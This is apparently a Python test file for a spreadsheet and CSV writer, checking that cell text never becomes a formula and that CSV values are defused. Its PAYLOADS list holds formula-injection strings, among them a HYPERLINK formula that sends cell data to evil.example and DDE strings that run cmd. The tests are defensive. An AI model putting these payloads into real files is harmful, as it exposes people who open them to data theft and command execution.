"""The shared spreadsheet writer on its own: text is never a formula, numbers stay numbers, CSV text is
defused, the same input gives the same bytes."""

import datetime as dt
import io
import zipfile

import openpyxl
import polars as pl

from jingkai.spreadsheets import INTEGER, NUMBER, Book, Col, csv_safe, csv_safe_frame

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def workbook(rows) -> bytes:
    book = Book(title="测试", as_of=dt.date(2026, 11, 30))
    book.table("数据", [Col("名称"), Col("数值（万元）", NUMBER), Col("年度", INTEGER)], rows, title="测试名单")
    return book.close()


def test_payloads_are_strings_and_negative_numbers_numbers():
    blob = workbook([[p, -2.5, 2021] for p in PAYLOADS])
    sheet = zipfile.ZipFile(io.BytesIO(blob)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    ws = openpyxl.load_workbook(io.BytesIO(blob))["数据"]
    cells = list(ws.iter_rows(min_row=3))
    assert [r[0].value.replace("_x000D_", "\r") for r in cells] == PAYLOADS and all(r[0].data_type == "s" for r in cells)
    assert all(r[1].value == -2.5 and r[1].data_type == "n" for r in cells)
    assert cells[0][2].value == 2021 and cells[0][2].number_format == "0"


def test_same_rows_same_bytes_and_no_float_noise():
    rows = [["甲", 8519805.859999999, 2024], ["乙", None, None]]
    assert workbook(rows) == workbook(rows)
    ws = openpyxl.load_workbook(io.BytesIO(workbook(rows)))["数据"]
    assert ws["B3"].value == 8519805.86 and ws["B3"].number_format == "#,##0.00"


def test_csv_values_are_defused_but_numbers_are_not():
    assert [csv_safe(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert csv_safe("兰州") == "兰州" and csv_safe("") == ""
    frame = pl.DataFrame({"name": [*PAYLOADS, "正常"], "value": [-2.0] * (len(PAYLOADS) + 1)})
    safe = csv_safe_frame(frame)
    assert safe["name"].to_list() == ["'" + p for p in PAYLOADS] + ["正常"]
    assert safe["value"].to_list() == frame["value"].to_list()
